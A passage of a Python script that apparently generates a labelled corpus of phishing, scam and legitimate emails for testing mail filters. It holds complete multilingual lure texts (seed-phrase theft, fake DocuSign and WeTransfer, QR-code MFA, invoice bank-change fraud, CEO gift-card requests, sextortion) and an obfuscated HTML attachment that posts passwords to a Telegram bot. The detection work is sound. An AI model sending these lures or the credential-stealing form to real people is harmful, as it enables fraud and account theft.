                      'le formulaire de remboursement en ligne :</p>'
                      + button(url, "Accéder au formulaire", "#000091")
                      + '<p>Service des imp&ocirc;ts des particuliers<br>impots.gouv.fr</p>'))
    plain = f"Vous êtes éligible à un remboursement de 327,15 €. Formulaire : {url}\n"
    add(slug, P, "French impots.gouv tax-refund lure (327,15 €), From 'impots.gouv.fr' on a lookalike domain, link to "
        "netlify.app",
        site="vallonet", rcpt="cmartinez", frm=("impots.gouv.fr", "remboursement@dgfip-impots-info.fr"),
        subject="Avis de remboursement d'impôt - Référence 2024-FR-7731",
        date=when(2024, 6, 3, 18, 44, 2, 2), ip="141.98.10.56", helo="dgfip-impots-info.fr", rdns=None,
        mailfrom="remboursement@dgfip-impots-info.fr", spf="pass", dmarc="none",
        msgid=phpmailer_id(slug, "dgfip-impots-info.fr"), xmailer=PHPMAILER, body=alt(slug, plain, html))

    # 31 MetaMask seed phrase
    slug = "metamask-wallet-verify"
    url = "https://metamask-wallet-sync.vercel.app/restore"
    html = page(row('<p style="font-size:22px;color:#f6851b;"><b>&#129418; MetaMask</b></p>')
                + row('<p>Dear MetaMask user,</p><p>Due to a recent update of our security protocols, all wallets '
                      'that have not been verified will be <b>suspended on 14 February 2024</b>.</p><p>To keep '
                      'access to your funds, verify your wallet by restoring it with your <b>Secret Recovery Phrase</b> '
                      '(12 or 24 words).</p>' + button(url, "Verify My Wallet", "#f6851b")
                      + '<p style="font-size:12px;color:#777;">Wallet ID: MM-88301-AX &middot; &copy; 2024 MetaMask '
                        '/ ConsenSys Software Inc.</p>'))
    plain = f"All unverified wallets will be suspended. Verify your wallet with your Secret Recovery Phrase: {url}\n"
    add(slug, P, "MetaMask 'verify your wallet or it will be suspended' lure asking for the Secret Recovery Phrase, "
        "unrelated sender domain, link to vercel.app",
        site="okonkwo", rcpt="emeka", frm=("MetaMask", "support@mm-walletsupport.io"),
        subject="Action required: Wallet verification before 14/02/2024", date=when(2024, 2, 10, 1, 5, 30, 0),
        ip="193.233.21.91", helo="mm-walletsupport.io", rdns=None, mailfrom="support@mm-walletsupport.io",
        spf="pass", dkim="pass", dkim_d="mm-walletsupport.io", dkim_sign=("mm-walletsupport.io", "s1"),
        dmarc="pass", dmarc_policy="none", msgid=f"{hx(slug, 32)}@mm-walletsupport.io",
        extra=["List-Unsubscribe: <mailto:unsubscribe@mm-walletsupport.io>", "X-Mailer: Sendy"],
        body=alt(slug, plain, html))

    # 32 Ledger
    slug = "ledger-security-update"
    url = "https://ledger-live-update.glitch.me/"
    plain = (f"Ledger\n\nDear Customer,\n\nWe regret to inform you that a data breach affected a portion of our "
             f"customer database. To protect your assets, we have released a mandatory security update for all "
             f"Ledger Nano S/X devices.\n\nPlease complete the update and re-validate your 24-word recovery phrase "
             f"here:\n{url}\n\nFailure to do so may result in loss of funds.\n\nLedger Security Team\n"
             f"Ledger SAS, 1 rue du Mail, 75002 Paris, France")
    add(slug, P, "Ledger 'data breach, mandatory update' lure asking to re-enter the 24-word recovery phrase, spoofed "
        "ledger.com with DMARC fail, link to glitch.me",
        site="brackwede", rcpt="f.hartmann", frm=("Ledger", "no-reply@ledger.com"),
        subject="Important security update for your Ledger device", date=when(2023, 12, 15, 23, 1, 4, 1),
        ip="185.234.216.59", helo="mail.cryptonews-daily.net", rdns=None,
        mailfrom="news@cryptonews-daily.net", spf="pass", dmarc="fail", dmarc_policy="quarantine",
        msgid=f"{hx(slug, 24)}@cryptonews-daily.net", body=text(plain))

    # 33 Coinbase / Trust Wallet
    slug = "trustwallet-recovery-phrase"
    url = "https://ipfs.io/ipfs/bafybeie5nqv4h7xy2kx6wz3ybq4p7kfvmhsl6t2wlp7o3rv2gcbzqzqx4e/trust-verify.html"
    html = page(row('<p style="font-size:22px;color:#3375bb;"><b>Trust Wallet</b></p>')
                + row('<p>Hello,</p><p>Your Trust Wallet has been flagged for <b>validation</b>. Unvalidated wallets '
                      'will be restricted from sending and receiving assets.</p><p>Validate your wallet by entering '
                      'your 12-word recovery phrase on our secure validation portal:</p>'
                      + button(url, "Validate Wallet", "#3375bb")
                      + '<p style="font-size:12px;color:#888;">Trust Wallet never asks for your funds. &copy; 2024 '
                        'Trust Wallet</p>'))
    plain = f"Your Trust Wallet has been flagged for validation. Validate with your 12-word recovery phrase: {url}\n"
    add(slug, P, "Trust Wallet validation lure requesting the 12-word recovery phrase, link to an ipfs.io gateway page, "
        "sender a .top throwaway domain",
        site="amaral", rcpt="pedro.amaral", frm=("Trust Wallet", "validation@trustwallet-support.top"),
        subject="Your wallet requires validation", date=when(2024, 9, 2, 4, 40, 0, 0), ip="45.155.205.99",
        helo="trustwallet-support.top", rdns=None, mailfrom="validation@trustwallet-support.top", spf="pass",
        dmarc="none", msgid=phpmailer_id(slug, "trustwallet-support.top"), xmailer=PHPMAILER,
        body=alt(slug, plain, html))

    # 34 DocuSign compromised WordPress
    slug = "docusign-shared-document"
    url = "https://www.greenvalleyorchards.com/wp-content/plugins/docu/sign/index.html?e=l.schmitt@uni-brackwede.de"
    html = page(row('<p style="font-size:22px;"><b>DocuSign</b></p>', extra="background:#1e1e1e;color:#fff;")
                + row('<table width="100%" bgcolor="#1e4ca1"><tr><td align="center" style="padding:25px;color:#fff;">'
                      '<p style="font-size:16px;">Prof. Weber sent you a document to review and sign.</p>'
                      + button(url, "REVIEW DOCUMENT", "#ffc820")
                      + '</td></tr></table><p><b>Prof. Weber</b><br>Please review and sign: '
                        '"Lehrauftrag_WS2023_Vertrag.pdf"</p><p style="font-size:11px;color:#888;">Do Not Share '
                        'This Email. This email contains a secure link to DocuSign.</p>'))
    plain = f"Prof. Weber sent you a document to review and sign.\nREVIEW DOCUMENT: {url}\n"
    add(slug, P, "DocuSign 'document to review and sign' lure from a non-DocuSign domain, REVIEW DOCUMENT button to a "
        "compromised WordPress plugin folder carrying the recipient's address",
        site="brackwede", rcpt="l.schmitt", frm=("Prof. Weber via DocuSign", "dse@docusign-envelope.net"),
        subject="Please DocuSign: Lehrauftrag_WS2023_Vertrag.pdf", date=when(2023, 10, 2, 9, 11, 47, 2),
        ip="23.94.145.12", helo="docusign-envelope.net", rdns=None, mailfrom="dse@docusign-envelope.net",
        spf="pass", dmarc="none", msgid=f"{hx(slug, 32)}@docusign-envelope.net", body=alt(slug, plain, html))

    # 35 Adobe PDF attachment with a link button
    slug = "adobe-pdf-link-button"
    url = "https://adobe-document-cloud-view.web.app/?doc=PO-2024-0412&e=acquisti@studiobellandi.it"
    pdf = files.pdf(["Adobe Document Cloud", "", "You have received a secure PDF document.",
                     "Document: PO-2024-0412.pdf  (2 pages, 184 KB)",
                     "To view the protected document, click the button below and",
                     "sign in with your email account."], link=(url, (56, 560, 290, 600)),
                    title="PO-2024-0412")
    plain = ("Buongiorno,\n\nin allegato l'ordine di acquisto PO-2024-0412 come da accordi.\n"
             "Vi preghiamo di confermare la ricezione.\n\nCordiali saluti\nUfficio Acquisti\nTermoidraulica Sarti S.r.l.")
    add(slug, P, "Italian purchase-order pretext with a one-page PDF whose only content is an Adobe-branded button "
        "linking to a web.app login page; sender a free Libero mailbox",
        site="bellandi", rcpt="acquisti", frm=("Ufficio Acquisti Sarti", "termoidraulica.sarti@libero.it"),
        subject="Ordine di acquisto PO-2024-0412", date=when(2024, 4, 12, 10, 30, 5, 2), ip="213.209.10.44",
        helo="libero.it", rdns="smtp-31.iol.local", mailfrom="termoidraulica.sarti@libero.it", spf="pass",
        dkim="pass", dkim_d="libero.it", dkim_sign=("libero.it", "s2021"), dmarc="pass", dmarc_policy="quarantine",
        msgid=f"{hx(slug, 12)}.{hx(slug + 'l', 10)}@libero.it", xmailer="User-Agent: Libero Mail Web",
        body=mixed(slug, text(plain), mime.attachment("application/pdf", "PO-2024-0412.pdf", pdf)))

    # 36 WeTransfer
    slug = "wetransfer-files-sent"
    url = "https://wetransfer-download-files.pages.dev/downloads/8f2a91c4d3e7?email=s.nguyen@harbourline.co.uk"
    html = page(row('<p style="font-size:22px;"><b>WeTransfer</b></p>')
                + row('<p style="font-size:18px;"><b>accounts@harbourline.co.uk</b> sent you some files</p>'
                      '<p>3 items, 14.2 MB in total &middot; Expires in 3 days</p>'
                      '<p style="background:#f4f4f4;padding:10px;">Invoice_Payment_Schedule_Q4.pdf<br>'
                      'Statement_Oct2024.xlsx<br>Remittance_Copy.pdf</p>'
                      + button(url, "Get your files", "#409fff")
                      + '<p style="font-size:11px;color:#888;">To make sure our emails arrive, please add '
                        'noreply@wetransfer.com to your contacts.</p>'))
    plain = f"accounts@harbourline.co.uk sent you some files\n3 items, 14.2 MB\nGet your files: {url}\n"
    add(slug, P, "WeTransfer 'sent you some files' lure naming a colleague's address, from a non-WeTransfer domain, "
        "download link to a pages.dev page with the victim's email",
        site="harbour", rcpt="s.nguyen", frm=("WeTransfer", "noreply@we-transfer-mail.com"),
        subject="accounts@harbourline.co.uk sent you Invoice_Payment_Schedule_Q4.pdf via WeTransfer",
        date=when(2024, 10, 15, 15, 12, 39, 1), ip="194.169.175.120", helo="we-transfer-mail.com", rdns=None,
        mailfrom="noreply@we-transfer-mail.com", spf="pass", dmarc="none",
        msgid=f"{hx(slug, 32)}@we-transfer-mail.com", body=alt(slug, plain, html))

    # 37 OneDrive .html attachment with escaped login page
    slug = "onedrive-html-escaped-login"
    inner = ('<html><head><title>OneDrive - Sign in</title></head><body style="font-family:Segoe UI">'
             '<div style="width:340px;margin:90px auto;padding:36px;box-shadow:0 2px 6px #aaa">'
             '<h3>OneDrive</h3><p>Because you\'re accessing sensitive info, you need to verify your password.</p>'
             '<form id="f" method="post" action="https://api.telegram.org/bot6612048711:AAF' + alnum(slug, 30, False) +
             '/sendMessage"><input type="hidden" name="chat_id" value="-1001874211345">'
             '<input name="text_email" value="finance@hollisterkent.com"><br>'
             '<input type="password" name="text" placeholder="Password"><br>'
             '<button type="submit">Sign in</button></form></div></body></html>')
    escaped = urllib.parse.quote(inner, safe="")
    att = (f'<!DOCTYPE html>\n<html>\n<head><meta charset="utf-8"></head>\n<body>\n<script language="javascript">\n'
           f'document.write(unescape(\'{escaped}\'));\n</script>\n</body>\n</html>\n')
    html = ('<html><body style="font-family:Calibri,Arial;font-size:14px;"><p>Hello,</p>'
            '<p>Please find attached the remittance advice for payment released today via OneDrive.</p>'
            '<p>Kindly sign in with your email to view the file.</p><p>Regards,<br>Accounts Department</p>'
            '</body></html>')
    add(slug, P, "OneDrive remittance lure with an .html attachment whose login page is hidden in "
        "document.write(unescape(...)) and posts the password to the Telegram bot API",
        site="hollister", rcpt="finance", frm=("Accounts Department", "accounts@tranzlogix-freight.com"),
        subject="Remittance Advice - Payment Released 10/22/2024", date=when(2024, 10, 22, 8, 14, 55, -4),
        ip="192.3.176.40", helo="tranzlogix-freight.com", rdns=None, mailfrom="accounts@tranzlogix-freight.com",
        spf="pass", dmarc="none", msgid=phpmailer_id(slug, "tranzlogix-freight.com"), xmailer=PHPMAILER,
        body=mixed(slug, html_only(html), mime.attachment("text/html", "Remittance_Advice_OneDrive.html",
                                                          att.encode())))

    # 38 Geek Squad callback scam with PDF invoice
    slug = "geeksquad-renewal-callback"
    phone = "+1 (808) 462-1139"
    pdf = files.pdf(["GEEK SQUAD - Best Buy Protection Plan", "", "INVOICE #GS-77410928",
                     "Date: 01/17/2024", "Product: Geek Squad Total Tech Support (2 Years)",
                     "Payment method: Auto-Debit", "Amount: $349.99 USD", "",
                     "Your subscription has been renewed and charged to your account.",
                     f"If you did not authorize this renewal, call our billing desk: {phone}",
                     "Cancellation is possible only within 24 hours."], title="Invoice GS-77410928")
    plain = (f"Dear Customer,\n\nThank you for renewing your Geek Squad Total Tech Support subscription.\n"
             f"An amount of $349.99 has been charged. The invoice is attached.\n\n"
             f"If you wish to cancel and receive a refund, contact our billing department within 24 hours at "
             f"{phone}.\n\nRegards,\nGeek Squad Billing Team")
    add(slug, P, "Geek Squad auto-renewal callback scam ($349.99) from a Gmail account, PDF invoice with only a phone "
        "number to call, no links",
        site="okonkwo", rcpt="okonkwo", frm=("Geek Squad", "ricardoomerhendrix5571@gmail.com"),
        subject="Your Subscription renewed successfully #GS-77410928", date=when(2024, 1, 17, 16, 2, 19, -8),
        ip="209.85.208.172", helo="mail-lj1-f172.google.com", rdns="mail-lj1-f172.google.com",
        mailfrom="ricardoomerhendrix5571@gmail.com", spf="pass", dkim="pass", dkim_d="gmail.com",
        dkim_sign=("gmail.com", "20230601"), dmarc="pass", dmarc_policy="none",
        msgid=f"CAK{b64ish(slug, 30)}+{b64ish(slug + 'g', 16)}@mail.gmail.com",
        body=mixed(slug, text(plain), mime.attachment("application/pdf", "Invoice_GS-77410928.pdf", pdf)))

    # 39 QR code MFA re-registration
    slug = "mfa-qr-code"
    url = "https://mfa-reenroll.r2.dev/auth?u=a.wagner@uni-brackwede.de"
    url = "https://pub-91ac3e7f2b104e6d9a5c0b8d1e2f3a4b.r2.dev/mfa/index.html#a.wagner@uni-brackwede.de"
    png = files.qr_png(url)
    html = ('<html><body style="font-family:Segoe UI,Arial;font-size:14px;">'
            '<table width="520" cellpadding="20" style="border:1px solid #ddd;"><tr><td>'
            '<p style="font-size:18px;"><b>Multi-Faktor-Authentifizierung: erneute Registrierung erforderlich</b></p>'
            '<p>Hallo a.wagner,</p><p>Ihre Authenticator-Registrierung l&auml;uft heute ab. Scannen Sie den '
            'folgenden QR-Code mit der Kamera Ihres Smartphones, um die MFA f&uuml;r '
            '<b>a.wagner@uni-brackwede.de</b> erneut zu aktivieren.</p>'
            '<p align="center"><img src="cid:qr-mfa-001@brackwede" width="200" height="200" alt="QR"></p>'
            '<p style="font-size:12px;color:#666;">Microsoft 365 Sicherheit &ndash; IT-Servicedesk</p>'
            '</td></tr></table></body></html>')
    body = Multi("related", f"----=_rel_{hx(slug, 10)}",
                 [html_only(html), mime.attachment("image/png", "qrcode.png", png, inline=True,
                                                   cid="qr-mfa-001@brackwede")], params=' type="text/html";')
    add(slug, P, "German MFA re-registration lure with no clickable link: a QR code PNG inline image encodes an r2.dev "
        "URL with the victim's address; sender unrelated",
        site="brackwede", rcpt="a.wagner", frm=("Microsoft 365 Sicherheit", "security@it-servicedesk-portal.com"),
        subject="MFA-Registrierung läuft heute ab – a.wagner@uni-brackwede.de",
        date=when(2024, 11, 5, 8, 0, 12, 1), ip="154.216.19.70", helo="it-servicedesk-portal.com", rdns=None,
        mailfrom="security@it-servicedesk-portal.com", spf="pass", dmarc="none",
        msgid=phpmailer_id(slug, "it-servicedesk-portal.com"), xmailer=PHPMAILER, body=body)


def phishing_fraud():
    # 40 advance fee / compensation
    slug = "advance-fee-compensation"
    plain = ("Attention: Beneficiary,\n\n"
             "This is to officially inform you that the United Nations Compensation Commission in conjunction with "
             "the International Monetary Fund (IMF) has approved the sum of US$2,500,000.00 (Two Million Five Hundred "
             "Thousand United States Dollars) as compensation to victims of scams, unpaid contract and inheritance "
             "claims.\n\nYour email address was listed among the beneficiaries. To receive your payment through our "
             "ATM Visa Card delivery option, kindly reconfirm the following information:\n\n"
             "1. Full Name:\n2. Home Address:\n3. Phone Number:\n4. Occupation:\n5. Copy of ID card or passport:\n\n"
             "Contact the paying officer, Mr. Richard Okafor, on his private email: richardokafor.payment@gmail.com\n\n"
             "Note that you are required to pay only the delivery fee of US$185 once your card is ready.\n\n"
             "Regards,\nMrs. Janet Williams\nDirector, Foreign Remittance Dept.")
    add(slug, S, "advance-fee 'UN/IMF compensation US$2.5 million' scam, undisclosed recipients, asks for personal "
        "data and a delivery fee, Reply-To a different Gmail address",
        site="amaral", rcpt="pedro.amaral", to="Undisclosed recipients:;",
        frm=("United Nations Compensation", "info@unccompensation-office.org"),
        reply_to="richardokafor.payment@gmail.com",
        subject="Your Compensation Payment of US$2.5 Million", date=when(2023, 5, 3, 7, 22, 15, 1),
        ip="41.203.78.150", helo="User", rdns=None, mailfrom="info@unccompensation-office.org", spf="softfail",
        dmarc="none", msgid=f"{hx(slug, 8)}${hx(slug + 's', 8)}${hx(slug + 't', 8)}@unccompensation-office.org",
        xmailer="X-Mailer: Microsoft Outlook 15.0", body=text(plain, encoding="7bit", charset="us-ascii"))

    # 41 lottery (Spanish)
    slug = "loteria-premio-es"
    plain = ("LOTERÍA INTERNACIONAL EL GORDO DE LA PRIMITIVA\nCalle Ancha de San Bernardo 45, 28015 Madrid\n\n"
             "Ref: EGS/2024/88-0031\nLote: 07/771/ES\n\n"
             "Estimado/a ganador/a:\n\nNos complace comunicarle que su dirección de correo electrónico ha resultado "
             "ganadora en el sorteo internacional celebrado el 12/06/2024, con un premio de 950.000,00 € "
             "(novecientos cincuenta mil euros).\n\nPara reclamar su premio, póngase en contacto con nuestro agente "
             "de pagos, Lic. Fernando Ruiz, enviando sus datos completos a: agente.fernandoruiz@outlook.es\n\n"
             "Por motivos de seguridad, mantenga esta notificación en estricta confidencialidad.\n\n"
             "Atentamente,\nSra. María Castillo\nCoordinadora de Premios")
    add(slug, S, "Spanish lottery-win scam (950.000 €), unsolicited notification with a separate claims agent address "
        "and Reply-To, confidentiality request",
        site="santelmo", rcpt="lucia", to="Undisclosed recipients:;",
        frm=("Lotería Internacional", "premios@loteria-elgordo-int.com"),
        reply_to="agente.fernandoruiz@outlook.es",
        subject="NOTIFICACIÓN DE PREMIO - REF: EGS/2024/88-0031", date=when(2024, 6, 20, 12, 5, 0, 2),
        ip="196.251.72.14", helo="loteria-elgordo-int.com", rdns=None,
        mailfrom="premios@loteria-elgordo-int.com", spf="pass", dmarc="none",
        msgid=phpmailer_id(slug, "loteria-elgordo-int.com"), xmailer=PHPMAILER, body=text(plain))

    # 42 inheritance (French)
    slug = "heritage-meme-nom"
    plain = ("Bonjour,\n\nJe suis Maître Antoine Kouassi, avocat au barreau d'Abidjan. Je vous contacte au sujet de "
             "feu M. Jean-Pierre Garnier, ingénieur, décédé avec toute sa famille dans un accident de la route en "
             "2019. Il a laissé un dépôt de 4 850 000 € auprès d'une banque locale.\n\n"
             "Après plusieurs recherches infructueuses pour retrouver un membre de sa famille, je me permets de vous "
             "contacter car vous portez le même nom de famille. Je souhaite vous présenter comme l'héritier légitime "
             "afin que les fonds ne soient pas confisqués par l'État.\n\n"
             "La transaction est légale et sans risque. Nous partagerons les fonds à 50/50.\n\n"
             "Merci de me répondre avec vos coordonnées complètes à : me.kouassi.cabinet@gmail.com\n\n"
             "Cordialement,\nMe Antoine Kouassi")
    add(slug, S, "French inheritance scam: lawyer claims a deceased client with the recipient's surname left 4.85 M€, "
        "50/50 split, reply to a Gmail address different from the sender",
        site="vallonet", rcpt="n.garnier", frm=("Me Antoine Kouassi", "cabinet.kouassi@aol.com"),
        reply_to="me.kouassi.cabinet@gmail.com",
        subject="Héritage de feu M. Jean-Pierre Garnier", date=when(2023, 11, 21, 15, 30, 0, 0),
        ip="87.248.110.33", helo="sonic312-21.consmr.mail.ir2.yahoo.com",
        rdns="sonic312-21.consmr.mail.ir2.yahoo.com", mailfrom="cabinet.kouassi@aol.com", spf="pass",
        dkim="pass", dkim_d="aol.com", dkim_sign=("aol.com", "a2048"), dmarc="pass", dmarc_policy="reject",
        msgid=f"{int(hx(slug, 12), 16)}.{int(hx(slug + 'y', 6), 16)}.1700580600000@mail.yahoo.com",
        xmailer="X-Mailer: WebService/1.1.21896 AolMailNorrin", body=text(plain))

    # 43 invoice fraud: payment details changed (German)
    slug = "rechnung-bankverbindung-geaendert"
    plain = ("Sehr geehrte Damen und Herren,\n\nwir möchten Sie darüber informieren, dass sich unsere Bankverbindung "
             "aufgrund einer laufenden Prüfung unseres bisherigen Kontos geändert hat.\n\n"
             "Bitte überweisen Sie die offene Rechnung Nr. 2024-1187 über 8.742,30 EUR ab sofort ausschließlich auf "
             "folgendes Konto:\n\nKontoinhaber: Laborbedarf Krämer GmbH\nBank: Revolut Bank UAB\n"
             "IBAN: LT41 3250 0247 7123 9902\nBIC: REVOLT21\n\n"
             "Die alte Bankverbindung ist nicht mehr gültig. Bitte bestätigen Sie uns kurz die Änderung in Ihrer "
             "Kreditorenbuchhaltung und teilen Sie uns das voraussichtliche Zahlungsdatum mit.\n\n"
             "Mit freundlichen Grüßen\n\nSabine Krämer\nBuchhaltung\nLaborbedarf Krämer GmbH\n"
             "Industriestr. 14, 33609 Bielefeld")
    add(slug, P, "German vendor-impersonation invoice fraud: 'our bank details have changed', new Lithuanian IBAN for "
        "an open invoice; sender a lookalike domain (laborbedarf-kraemer-gmbh.de vs the real vendor) with Reply-To "
        "on yet another domain",
        site="brackwede", rcpt="beschaffung", frm=("Sabine Krämer", "s.kraemer@laborbedarf-kraemer-gmbh.de"),
        reply_to="s.kraemer@laborbedarf-kraemer.info",
        subject="AW: Rechnung 2024-1187 - Änderung unserer Bankverbindung", date=when(2024, 5, 14, 10, 2, 37, 2),
        ip="185.117.90.210", helo="laborbedarf-kraemer-gmbh.de", rdns=None,
        mailfrom="s.kraemer@laborbedarf-kraemer-gmbh.de", spf="pass", dmarc="none",
        msgid=f"{hx(slug, 8).upper()}{hx(slug + 'o', 24).upper()}@laborbedarf-kraemer-gmbh.de",
        xmailer=OUTLOOK16, extra=["Thread-Index: " + b64ish(slug + "ti", 30) + "=="], body=text(plain))

    # 44 gift-card CEO fraud
    slug = "ceo-gift-cards"
    plain = ("Hi Dana,\n\nAre you at your desk? I need you to handle a task for me discreetly. I'm in a meeting and "
             "can't talk on the phone right now.\n\nI want to surprise some of our staff with gift cards today. Can "
             "you purchase 6 Apple gift cards of $200 each? Scratch the back, take pictures of the codes and send "
             "them to me here. I will reimburse you this evening.\n\nThanks,\nRobert Hollister\nSent from my iPhone")
    add(slug, P, "gift-card CEO fraud: short urgent request using the CEO's name (Robert Hollister) from a free Gmail "
        "account, asks for photos of Apple gift-card codes",
        site="hollister", rcpt="dgreene", frm=("Robert Hollister", "robert.hollister.ceo@gmail.com"),
        subject="Quick task", date=when(2024, 9, 12, 9, 41, 3, -5), ip="209.85.166.194",
        helo="mail-il1-f194.google.com", rdns=None, mailfrom="robert.hollister.ceo@gmail.com", spf="pass",
        dkim="pass", dkim_d="gmail.com", dkim_sign=("gmail.com", "20230601"), dmarc="pass", dmarc_policy="none",
        msgid=f"CAM{b64ish(slug, 30)}_{b64ish(slug + 'g', 12)}@mail.gmail.com",
        body=text(plain, encoding="7bit", charset="UTF-8"))

    # 45 sextortion
    slug = "sextortion-bitcoin"
    plain = ("Hello there,\n\nI have some bad news for you. Several months ago I gained access to the devices you use "
             "for browsing the internet. After that, I started tracking your internet activities.\n\n"
             "I installed a Trojan on your operating system through a driver signature that is updated every few hours "
             "so antivirus software cannot detect it. I have access to your microphone, camera and keyboard.\n\n"
             "I recorded videos of you pleasuring yourself while watching adult websites, and I made a split-screen "
             "with the video you were watching. With one click I can send this video to all your email and social "
             "network contacts.\n\nIf you want to prevent this, transfer the amount of 1350 USD in Bitcoin to my "
             "wallet:\n\nbc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n\nYou have 48 hours from the moment you opened "
             "this email. I have a special pixel in this email, so I know you have read it.\n\nDo not try to reply, "
             "this email address was generated automatically. Do not contact the police, I will know immediately.\n")
    # Refiled by the maintainer: sextortion with a wallet to pay is named phishing (EXTORTION_CRYPTO), as every later
    # blind set files it.
    add(slug, "phishing", "sextortion: claims malware recorded the victim via webcam, demands 1350 USD in Bitcoin to a wallet "
        "address within 48 hours; From is forged as the victim's own address (SPF fail)",
        site="harbour", rcpt="t.fletcher", frm=("", "t.fletcher@harbourline.co.uk"),
        subject="Your account has been hacked! You need to unlock it.", date=when(2023, 1, 26, 2, 13, 44, 3),
        ip="178.72.90.112", helo="178-72-90-112.adsl.rtk.ru", rdns=None, mailfrom="t.fletcher@harbourline.co.uk",
        spf="fail", dmarc="fail", dmarc_policy="quarantine",
        msgid=f"{hx(slug, 6).upper()}{hx(slug + 'z', 6).upper()}@harbourline.co.uk",
        xmailer="X-Mailer: Microsoft Office Outlook 12.0", body=text(plain, encoding="7bit", charset="us-ascii"))


# =========================================================================== LEGITIMATE
C = "clean"
B = "bulk"


def clean_mail():
    # c1 colleague Outlook HTML with signature and SharePoint link
    slug = "colleague-sharepoint-outlook"
    sp = ("https://hollisterkent.sharepoint.com/:x:/s/Operations/EZk3q8TnUa1Ns0pYc2cF4gIBk7r0P1yW9mTq4Hd2xLw8Aw"
          "?e=4bXq2L")
    html = ('<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta http-equiv="Content-Type" '
            'content="text/html; charset=utf-8"><style><!--p.MsoNormal{margin:0in;font-size:11.0pt;'
            'font-family:"Calibri",sans-serif;}--></style></head><body lang="EN-US" link="#0563C1">'
            '<div class="WordSection1"><p class="MsoNormal">Hi Dave,</p><p class="MsoNormal">&nbsp;</p>'
            '<p class="MsoNormal">I put the updated Q3 freight cost comparison on the Operations site: '
            f'<a href="{sp}">Freight_Costs_Q3_v4.xlsx</a></p><p class="MsoNormal">&nbsp;</p>'
            '<p class="MsoNormal">The Northbay numbers now include the fuel surcharge they added in August, so the '
            'total moved about 3%. Can you look at tab 2 before our 1:1 on Thursday? If the carrier mix looks right '
            'to you I\'ll send it to Robert.</p><p class="MsoNormal">&nbsp;</p><p class="MsoNormal">Thanks,</p>'
            '<p class="MsoNormal">Jenna</p><p class="MsoNormal">&nbsp;</p>'
            '<p class="MsoNormal"><b><span style="color:#1F3864">Jenna Morales</span></b><br>'
            '<span style="font-size:9.0pt;color:#595959">Operations Manager | Hollister Kent Distribution<br>'
            '2200 Commerce Pkwy, Suite 400, Columbus, OH 43219<br>O: (614) 555-0187 | M: (614) 555-0122</span></p>'
            '</div></body></html>')
    plain = ("Hi Dave,\n\nI put the updated Q3 freight cost comparison on the Operations site: Freight_Costs_Q3_v4.xlsx"
             f"<{sp}>\n\nThe Northbay numbers now include the fuel surcharge they added in August, so the total moved "
             "about 3%. Can you look at tab 2 before our 1:1 on Thursday? If the carrier mix looks right to you I'll "
             "send it to Robert.\n\nThanks,\nJenna\n\nJenna Morales\nOperations Manager | Hollister Kent Distribution\n"
             "2200 Commerce Pkwy, Suite 400, Columbus, OH 43219\nO: (614) 555-0187 | M: (614) 555-0122")
    add(slug, C, "colleague at the same company writing from Outlook/Microsoft 365 with a real signature; the link is "
        "the company's own SharePoint tenant (hollisterkent.sharepoint.com); SPF/DKIM/DMARC pass for hollisterkent.com",
        site="hollister", rcpt="dgreene", frm=("Jenna Morales", "jmorales@hollisterkent.com"),
        to="Dave Greene <dgreene@hollisterkent.com>", subject="Q3 freight cost comparison - updated",
        date=when(2024, 9, 24, 15, 2, 11, -4), ip="40.107.236.102",
        helo="NAM12-BN8-obe.outbound.protection.outlook.com", rdns=None, mailfrom="jmorales@hollisterkent.com",
        spf="pass", dkim="pass", dkim_d="hollisterkent.com", dkim_sign=("hollisterkent.com", "selector1"),
        dmarc="pass", dmarc_policy="quarantine",
        msgid=f"BN8PR14MB{alnum(slug, 4)}{alnum(slug + 'o', 22)}@BN8PR14MB{alnum(slug, 4)}.namprd14.prod.outlook.com",
        extra=["Thread-Topic: Q3 freight cost comparison - updated", f"Thread-Index: {b64ish(slug + 'ti', 30)}==",
               "Accept-Language: en-US", "Content-Language: en-US", "X-MS-Has-Attach:",
               "X-MS-TNEF-Correlator:"],
        body=alt(slug, plain, html))

    # c2 friend Gmail with a PDF
    slug = "friend-gmail-pdf"
    pdf = files.pdf(["Lakeside Cottage - Booking confirmation", "", "Guests: 4 adults, 2 children",
                     "Arrival: Saturday 12 July 2025 from 4pm", "Departure: Saturday 19 July 2025 by 10am",
                     "Total: GBP 1,480.00 (deposit GBP 400 paid)", "Balance due: 14 June 2025",
                     "Address: Lakeside Cottage, Coniston, Cumbria LA21 8AN"], title="Booking confirmation")
    plain = ("Hi Chidi,\n\nHere's the booking confirmation for the cottage - all sorted for the 12th to the 19th! "
             "I paid the deposit, so if you can send me your half of it (£200) whenever suits that's great. "
             "Balance is due mid-June, we can split that the same way.\n\n"
             "Amaka says the kids are already planning the boat trip :)\n\nSpeak soon,\nTunde\n")
    html = ('<div dir="ltr">Hi Chidi,<div><br></div><div>Here&#39;s the booking confirmation for the cottage - all '
            'sorted for the 12th to the 19th! I paid the deposit, so if you can send me your half of it (£200) '
            'whenever suits that&#39;s great. Balance is due mid-June, we can split that the same way.</div>'
            '<div><br></div><div>Amaka says the kids are already planning the boat trip :)</div><div><br></div>'
            '<div>Speak soon,</div><div>Tunde</div></div>')
    inner = Multi("alternative", f"0000000000000{hx(slug, 13)}", [text(plain), text(html, "html")])
    body = Multi("mixed", f"0000000000000{hx(slug + 'm', 13)}",
                 [inner, mime.attachment("application/pdf", "Lakeside_Cottage_Booking.pdf", pdf)])
    add(slug, C, "friend writing from Gmail about a shared holiday booking, attaching a booking-confirmation PDF (no "
        "links); gmail.com SPF/DKIM/DMARC pass",
        site="okonkwo", rcpt="chidi", frm=("Tunde Adeyemi", "tunde.adeyemi84@gmail.com"),
        subject="Cottage booking", date=when(2025, 2, 16, 19, 48, 30, 0), ip="209.85.128.53",
        helo="mail-wm1-f53.google.com", rdns="mail-wm1-f53.google.com", mailfrom="tunde.adeyemi84@gmail.com",
        spf="pass", dkim="pass", dkim_d="gmail.com", dkim_sign=("gmail.com", "20230601"), dmarc="pass",
        dmarc_policy="none", msgid=f"CAF{b64ish(slug, 30)}={b64ish(slug + 'g', 14)}@mail.gmail.com", body=body)

    # c3 small-business invoice
    slug = "plumber-invoice"
    pdf = files.pdf(["Brightflow Plumbing & Heating Ltd", "14 Mill Lane, Whitby YO21 3BT  |  VAT GB 318 4421 07",
                     "", "INVOICE 2025-0419", "Date: 03/04/2025", "Customer: Mr R. Whitfield",
                     "", "Annual boiler service (Worcester Greenstar 30i)      GBP 95.00",
                     "Replace filling loop and pressure gauge             GBP 68.00",
